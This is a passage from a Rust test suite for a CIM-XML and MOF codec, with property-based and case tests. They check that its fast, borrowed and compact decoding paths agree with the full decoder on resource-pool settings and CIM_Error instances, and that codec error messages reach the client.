    for text in [RASD_COMPACT, RASD_WMIDTD20, SASD_CIMDTD20, RASD_MOF] {
        assert_eq!(
            AllocationSettingData::decode(text),
            AllocationSettingData::from_owned(decode(text).unwrap()),
            "{text}"
        );
        assert_eq!(
            AllocationSettingData::decode(text),
            AllocationSettingData::from_instance(&decode(text).unwrap())
        );
    }
    for text in [RPSD_WMIDTD20, RPSD_CIMDTD20, RPSD_MOF] {
        assert_eq!(
            PoolSettingData::decode(text),
            PoolSettingData::from_owned(decode(text).unwrap()),
            "{text}"
        );
    }
    // Errors too: the decoder's, and the view's.
    let broken = RASD_COMPACT.replace("<VALUE>33</VALUE>", "<VALUE>70000</VALUE>");
    assert_eq!(
        AllocationSettingData::decode(&broken),
        Err(decode(&broken).unwrap_err())
    );
    let wrong = RASD_COMPACT.replace("TYPE=\"uint32\"", "TYPE=\"string\"");
    assert_eq!(
        AllocationSettingData::decode(&wrong),
        AllocationSettingData::from_owned(decode(&wrong).unwrap())
    );
    assert!(AllocationSettingData::decode(&wrong).is_err());
    assert!(matches!(
        PoolSettingData::decode(RASD_COMPACT),
        Err(CodecError::WrongClass { .. })
    ));
}

#[rstest]
#[case::comment("<!-- c --><INSTANCE CLASSNAME=\"C\"/>")]
#[case::declaration("<?xml version=\"1.0\"?><INSTANCE CLASSNAME=\"C\"/>")]
#[case::qualifier("<INSTANCE CLASSNAME=\"C\"><QUALIFIER NAME=\"q\" TYPE=\"string\"><VALUE>v</VALUE></QUALIFIER></INSTANCE>")]
#[case::crlf("<INSTANCE CLASSNAME=\"C\">\r\n<PROPERTY NAME=\"A\" TYPE=\"string\"><VALUE>a\r\nb</VALUE></PROPERTY></INSTANCE>")]
#[case::tab_in_attribute(
    "<INSTANCE CLASSNAME=\"C\"><PROPERTY NAME=\"A\" TYPE=\"string\" X=\"a\tb\"/></INSTANCE>"
)]
#[case::cdata("<INSTANCE CLASSNAME=\"C\"><PROPERTY NAME=\"A\" TYPE=\"string\"><VALUE><![CDATA[<x>]]></VALUE></PROPERTY></INSTANCE>")]
#[case::non_ascii_name("<INSTANCE CLASSNAME=\"C\"><PROPERTY NAME=\"Größe\" TYPE=\"uint8\"><VALUE>1</VALUE></PROPERTY></INSTANCE>")]
#[case::spaced_attribute("<INSTANCE CLASSNAME = \"C\"/>")]
fn uncommon_forms_take_the_full_decoder_and_decode_the_same(#[case] text: &str) {
    assert!(!check_fast_path(text), "{text}");
    assert_eq!(
        decode_borrowed(text).map(BorrowedInstance::into_owned),
        decode(text)
    );
    assert!(decode(text).is_ok(), "{text}");
}

#[test]
fn the_common_path_refuses_nothing_itself() {
    // Every refusal, even of a document in the common form, is the full decoder's: same
    // variant, same message, same position.
    for (text, kind) in [
        (
            RASD_COMPACT.replace("<VALUE>33</VALUE>", "<VALUE>x</VALUE>"),
            "InvalidValue",
        ),
        (
            RASD_COMPACT.replace("\"Limit\"", "\"weight\""),
            "DuplicateProperty",
        ),
        (RASD_COMPACT.replace("&amp;", "&nbsp;"), "Xml"),
        (RASD_COMPACT.replace("&#x41;", "&#x1;"), "Xml"),
        (RASD_COMPACT.replace("uint16", "uint17"), "UnknownCimType"),
        (format!("{RASD_COMPACT}<X/>"), "TrailingContent"),
    ] {
        let error = decode_borrowed(&text).unwrap_err();
        assert_eq!(kind_of(&error), kind, "{text}: {error}");
    }
    let small = Limits {
        max_properties: 2,
        ..Limits::default()
    };
    assert!(matches!(
        decode_borrowed_with_limits(RASD_COMPACT, &small),
        Err(CodecError::TooManyProperties { .. })
    ));
}

fn kind_of(e: &CodecError) -> &'static str {
    match e {
        CodecError::InvalidValue { .. } => "InvalidValue",
        CodecError::DuplicateProperty { .. } => "DuplicateProperty",
        CodecError::Xml { .. } => "Xml",
        CodecError::UnknownCimType(_) => "UnknownCimType",
        CodecError::TrailingContent { .. } => "TrailingContent",
        _ => "other",
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// `decode_borrowed` gives the instance `decode` gives, for every encoding, and the
    /// common-case decoder (taken by the compact CIM-XML form) agrees with the full one.
    #[test]
    fn borrowed_decoding_gives_the_owned_instance((i, _) in instance(true)) {
        for encoding in Encoding::ALL {
            let text = encode(&i, encoding);
            let borrowed = decode_borrowed(&text);
            prop_assert_eq!(borrowed.clone().map(BorrowedInstance::into_owned), decode(&text));
            if let Ok(b) = &borrowed {
                let owned = decode(&text).unwrap();
                prop_assert!(*b == owned);
                prop_assert_eq!(&BorrowedInstance::from(&owned), b);
            }
            check_fast_path(&text);
            check_fast_path(&text.replace("><", ">\n  <"));
        }
    }

    /// The typed views read straight from a borrowed decode exactly what they read from the
    /// owned instance, errors included.
    #[test]
    fn direct_views_agree_with_owned_views((i, _) in instance(true), rasd in any::<bool>()) {
        let class = if rasd { "Msvm_StorageAllocationSettingData" } else { "Msvm_ResourcePoolSettingData" };
        let i = Instance { class_name: class.to_string(), ..i };
        let text = encode(&i, Encoding::CimXml);
        prop_assert_eq!(
            AllocationSettingData::decode(&text),
            decode(&text).and_then(AllocationSettingData::from_owned)
        );
        prop_assert_eq!(
            PoolSettingData::decode(&text),
            decode(&text).and_then(PoolSettingData::from_owned)
        );
    }
}

/// An instance of one of the views' classes (or another class) whose properties are mostly
/// ones the views know — any case, any type, any shape, NULL elements included — so that
/// the direct decoding of the views meets every way of reading or refusing a property.
fn view_shaped_instance() -> impl Strategy<Value = Instance> {
    let mut known: Vec<&'static str> = AllocationSettingData::KNOWN.to_vec();
    known.extend(PoolSettingData::KNOWN);
    // The list property more often than the others.
    known.extend(["HostResource"; 6]);
    let mut classes: Vec<&'static str> = AllocationSettingData::CLASSES.to_vec();
    classes.extend(PoolSettingData::CLASSES);
    classes.push("Msvm_SomethingElse");
    let known_property = (
        prop::sample::select(known),
        any::<u32>(),
        property(true),
        0..8u8,
    )
        .prop_map(|(name, case_bits, (p, _), kind)| {
            // Any case; usually the view's own type and shape.
            let name: String = name
                .chars()
                .enumerate()
                .map(|(i, c)| {
                    if case_bits >> (i % 32) & 1 == 1 {
                        c.to_ascii_uppercase()
                    } else {
                        c
                    }
                })
                .collect();
            let cim_type = match (kind, name.to_ascii_lowercase().as_str()) {
                (0..=6, "hostresource") => CimType::String,
                (0..=6, "resourcetype") => CimType::Uint16,
                (0..=6, "weight") => CimType::Uint32,
                (0..=6, "virtualquantity" | "reservation" | "limit") => CimType::Uint64,
                (0..=6, _) => CimType::String,
                _ => p.cim_type,
            };
            let is_array = if kind <= 6 {
                name.eq_ignore_ascii_case("HostResource")
            } else {
                p.is_array
            };
            (name, cim_type, is_array, p)
        })
        .prop_flat_map(|(name, cim_type, is_array, p)| {
            let value = if is_array {
                prop::collection::vec(prop::option::weighted(0.97, value_of(cim_type, true)), 0..4)
                    .prop_map(|items| {
                        PropertyValue::Array(items.into_iter().map(|g| g.map(|g| g.text)).collect())
                    })
                    .boxed()
            } else {
                value_of(cim_type, true)
                    .prop_map(|g| PropertyValue::Scalar(g.text))
                    .boxed()
            };
            (Just((name, cim_type, is_array, p)), value, 0..16u8)
        })
        .prop_map(|((name, cim_type, is_array, p), value, roll)| match roll {
            // Now and then NULL, or a property of another type or shape.
            0 => Property {
                name,
                cim_type,
                is_array,
                value: PropertyValue::Null,
            },
            1 if cim_type != CimType::Reference => Property { name, ..p },
            _ => Property {
                name,
                cim_type,
                is_array,
                value,
            },
        });
    (
        prop::sample::select(classes),
        prop::collection::vec(known_property, 0..8),
        prop::collection::vec(property(true), 0..3),
        prop::bool::weighted(0.1),
    )
        .prop_map(|(class, known, others, duplicates)| {
            let mut seen = HashSet::new();
            let properties = known
                .into_iter()
                .chain(others.into_iter().map(|(p, _)| p))
                // Duplicate names (refused by decoding) now and then.
                .filter(|p| seen.insert(p.name.to_lowercase()) || duplicates)
                .collect();
            Instance {
                class_name: class.to_string(),
                properties,
            }
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1024))]

    /// Decoding straight into a view (the common form: from the decoder's events into the
    /// view, `HostResource` into its list) answers exactly what decoding then reading the
    /// owned instance answers, errors included, in every encoding.
    #[test]
    fn direct_views_agree_on_view_shaped_instances(i in view_shaped_instance()) {
        for encoding in Encoding::ALL {
            let text = encode(&i, encoding);
            prop_assert_eq!(
                AllocationSettingData::decode(&text),
                decode(&text).and_then(AllocationSettingData::from_owned)
            );
            prop_assert_eq!(
                PoolSettingData::decode(&text),
                decode(&text).and_then(PoolSettingData::from_owned)
            );
            check_fast_path(&text);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The codec's message reaches the client (spec/embedded-instances.md, EMB-003)

/// Calls the reference's `CreatePool` with `settings` as `PoolSettings` and returns the
/// refusal's ReturnValue and the `Message` of its `Error` output parameter (a `CIM_Error`).
fn refused_create(config: poolcheck::reference::ReferenceConfig, settings: &str) -> (u32, String) {
    use poolcheck::reference::ReferenceService;
    use poolcheck::sut::{
        CallReply, Dialect, HostFixture, Method, MethodCall, ParamValue, PoolService,
    };
    let dialect = config.dialect;
    let mut service = ReferenceService::new(config);
    let fixture = match dialect {
        Dialect::Msvm => HostFixture::msvm_default(),
        Dialect::Cim => HostFixture::cim_default(),
    };
    service.reset(&fixture).unwrap();
    let call = match dialect {
        Dialect::Msvm => MethodCall::new(Method::CreatePool)
            .with("PoolSettings", ParamValue::String(settings.into()))
            .with("ParentPools", ParamValue::ReferenceArray(Vec::new()))
            .with("AllocationSettings", ParamValue::StringArray(Vec::new())),
        // The CIM method takes its settings as one array of allocations.
        Dialect::Cim => MethodCall::new(Method::CreateChildResourcePool)
            .with("ElementName", ParamValue::String("child".into()))
            .with("Settings", ParamValue::StringArray(vec![settings.into()]))
            .with("ParentPool", ParamValue::ReferenceArray(Vec::new())),
    };
    let CallReply::Return(ret) = service.invoke(&call).unwrap() else {
        panic!("a malformed embedded instance is refused through the ReturnValue");
    };
    let error = ret
        .out_params
        .iter()
        .find(|p| p.name == "Error")
        .expect("the refusal carries an Error output parameter");
    let ParamValue::String(text) = &error.value else {
        panic!("Error is an embedded instance: {:?}", error.value);
    };
    let instance = decode(text).expect("Error decodes");
    assert!(instance.is_class("CIM_Error"));
    assert_eq!(instance.unsigned("CIMStatusCode"), Ok(Some(4)));
    (
        ret.return_value,
        instance.string("Message").unwrap().expect("a Message"),
    )
}

#[rstest]
#[case::out_of_range(
    "<INSTANCE CLASSNAME=\"Msvm_ResourcePoolSettingData\"><PROPERTY NAME=\"ResourceType\" TYPE=\"uint16\"><VALUE>70000</VALUE></PROPERTY></INSTANCE>",
    &["PoolSettings", "\"ResourceType\"", "70000", "uint16"]
)]
#[case::malformed_xml(
    "<INSTANCE CLASSNAME=\"Msvm_ResourcePoolSettingData\"><PROPERTY NAME=\"PoolID\" TYPE=\"string\"><VALUE>P</PROPERTY></INSTANCE>",
    &["PoolSettings", "malformed XML", "VALUE"]
)]
#[case::wrong_class(
    "<INSTANCE CLASSNAME=\"Msvm_MemorySettingData\"></INSTANCE>",
    &["PoolSettings", "wrong class", "Msvm_MemorySettingData"]
)]
#[case::unknown_element(
    "<INSTANCE CLASSNAME=\"Msvm_ResourcePoolSettingData\"><PROPERTY.OBJECT NAME=\"X\"/></INSTANCE>",
    &["PoolSettings", "<PROPERTY.OBJECT>"]
)]
fn msvm_invalid_parameter_carries_the_codec_message(
    #[case] settings: &str,
    #[case] named: &[&str],
) {
    let (code, message) = refused_create(
        poolcheck::reference::ReferenceConfig::msvm_default(),
        settings,
    );
    assert_eq!(code, 32773, "Invalid Parameter");
    for part in named {
        assert!(message.contains(part), "{message:?} does not name {part:?}");
    }
}

#[test]
fn cim_invalid_parameter_carries_the_codec_message() {
    let settings = "<INSTANCE CLASSNAME=\"CIM_ResourceAllocationSettingData\"><PROPERTY NAME=\"Reservation\" TYPE=\"uint64\"><VALUE>-1</VALUE></PROPERTY></INSTANCE>";
    let (code, message) = refused_create(
        poolcheck::reference::ReferenceConfig::cim_default(),
        settings,
    );
    assert_eq!(code, 5, "Invalid Parameter");
    assert!(
        message.contains("\"Reservation\"") && message.contains("-1"),
        "{message}"
    );
}

proptest! {
    /// A shape encoder writes exactly what `encode` writes: for the instance it was made
    /// from, for instances of the same shape with other values (of any variant, fitting the
    /// declaration or not), and — by falling back — for instances of another shape.
    #[test]
    fn shape_encoders_write_what_encode_writes(
        (made_from, _) in instance(false),
        (other, _) in instance(false),
        mof in any::<bool>(),
    ) {
        let encoding = if mof { Encoding::Mof } else { Encoding::CimXml };
        let encoder = ShapeEncoder::new(&made_from, encoding).expect("compact XML and MOF");
        prop_assert_eq!(encoder.encode(&made_from), encode(&made_from, encoding));
        let mut same_shape = made_from.clone();
        for (p, q) in same_shape.properties.iter_mut().zip(other.properties.iter().cycle()) {
            p.value = q.value.clone();
        }
        prop_assert!(encoder.fits(&same_shape));
        prop_assert_eq!(encoder.encode(&same_shape), encode(&same_shape, encoding));
        prop_assert_eq!(encoder.encode(&other), encode(&other, encoding));
    }
}

#[test]
fn shape_encoders_are_not_made_for_the_wmi_shape() {
    let instance =
        Instance::new("Msvm_ResourcePoolSettingData").with_scalar("PoolID", CimType::String, "P1");
    assert!(ShapeEncoder::new(&instance, Encoding::WmiDtd20).is_none());
}

/// A `CIM_Error` as a service built on the codec sends it (the reference's `Error` output):
/// compact CIM-XML, four scalar properties.
fn cim_error_text(class: &str, status: &str, message: &str) -> String {
    let instance = Instance::new(class)
        .with_scalar("CIMStatusCode", CimType::Uint32, status)
        .with_scalar(
            "CIMStatusCodeDescription",
            CimType::String,
            "CIM_ERR_INVALID_PARAMETER",
        )
        .with_scalar("Message", CimType::String, message)
        .with_scalar("OwningEntity", CimType::String, "poolcheck-reference");
    encode(&instance, Encoding::CimXml)
}

/// The compact-form scan agrees with the decoder on `text` and on every limit that matters
/// to it: same instance, or the decoder's own answer.
fn assert_compact_agrees(text: &str) {
    check_fast_path(text);
    let small = Limits {
        max_properties: 3,
        max_value_bytes: 24,
        ..Limits::default()
    };
    for limits in [Limits::default(), small, small_limits()] {
        check_compact_path(text, &limits);
    }
    assert_eq!(
        decode_borrowed_compact(text),
        decode_borrowed(text),
        "{text:.300}"
    );
}

#[test]
fn the_compact_form_is_scanned_directly_and_anything_else_is_the_decoders() {
    let message = "PoolSettings[0] is not a usable embedded instance: \"x\" <at 3> & more … ü";
    let text = cim_error_text("CIM_Error", "4", message);
    assert!(check_compact_path(&text, &Limits::default()), "{text}");
    let instance = decode_borrowed_compact(&text).expect("decodes");
    assert_eq!(
        instance.property("Message").map(|p| p.value.clone()),
        Some(BorrowedValue::Scalar(Cow::Owned(message.to_string())))
    );
    assert_compact_agrees(&text);
    // Other shapes, and refusals, are the decoder's (the scan gives up on them).
    for other in [
        format!("\u{FEFF}{text}"),
        format!(" {text}"),
        format!("{text}\n"),
        text.replace("><", ">\n<"),
        text.replace("\"uint32\"", "\"uint33\""),
        text.replace("<VALUE>4</VALUE>", "<VALUE>x</VALUE>"),
        text.replace("<VALUE>4</VALUE>", "<VALUE>4294967296</VALUE>"),
        text.replace("<VALUE>4</VALUE>", "<VALUE> 4 </VALUE>"),
        text.replace("<VALUE>4</VALUE>", ""),
        text.replace("OwningEntity", "message"),
        text.replace("CIM_Error", "CIM-Error"),
        text.replace("&quot;", "&nbsp;"),
        text.replace("&quot;", "&#x1;"),
        text.replace("&quot;", "&#x22;"),
        text.replace("&quot;", "\r"),
        text.replace("&quot;", "\t"),
        text.replace("&quot;", "\u{FFFE}"),
        text.replace("&quot;", "]]>"),
        text.replace(
            "</PROPERTY><PROPERTY NAME=\"Message\"",
            "</PROPERTY><PROPERTY NAME=\"Message\" TYPE=\"string\"/><X",
        ),
        text.replace("</INSTANCE>", "</INSTANCE><X/>"),
        text.replace("</INSTANCE>", ""),
        text.replace("TYPE=\"string\"", "TYPE=\"reference\""),
        text.replace("TYPE=\"string\"", "TYPE='string'"),
        text.replace("TYPE=\"string\"", "TYPE=\"STRING\""),
        text.replace(" TYPE=", "  TYPE="),
    ] {
        assert_compact_agrees(&other);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1024))]

    /// On `CIM_Error` instances with any message, and on every mutation of them, the
    /// compact-form scan returns what the decoder returns or gives up; messages without
    /// characters the common path leaves to the full decoder (CR, other controls but tab and
    /// LF, U+F000..U+FFFF) are scanned directly.
    #[test]
    fn the_compact_scan_agrees_with_the_decoder_on_cim_errors(
        class in prop_oneof!["CIM_Error", identifier()],
        status in prop_oneof!["4", "0", "[0-9 ]{0,11}", "x"],
        message in prop_oneof![xml_string(), any::<String>(), "[ -~…äß€\"'<>&]{0,300}"],
        at in any::<prop::sample::Index>(),
        insert in "[<>&;\"'/=#x0-9A-Z. _-]{0,4}",
        remove in 0usize..6,
    ) {
        let text = cim_error_text(&class, &status, &message);
        assert_compact_agrees(&text);
        let plain = message.chars().all(|c| c == '\t' || c == '\n' || (c >= ' ' && !('\u{F000}'..='\u{FFFF}').contains(&c)));
        if plain && decode(&text).is_ok() {
            prop_assert!(check_compact_path(&text, &Limits::default()), "{}", text);
        }
        assert_compact_agrees(&mutated(&text, at, remove, &insert));
    }

    /// Generated instances in the compact encoding: scalar ones without references are
    /// scanned directly whenever they decode, and always as the decoder decodes them.
    #[test]
    fn the_compact_scan_agrees_with_the_decoder_on_generated_instances((i, _) in instance(true)) {
        let text = encode(&i, Encoding::CimXml);
        assert_compact_agrees(&text);
    }
}
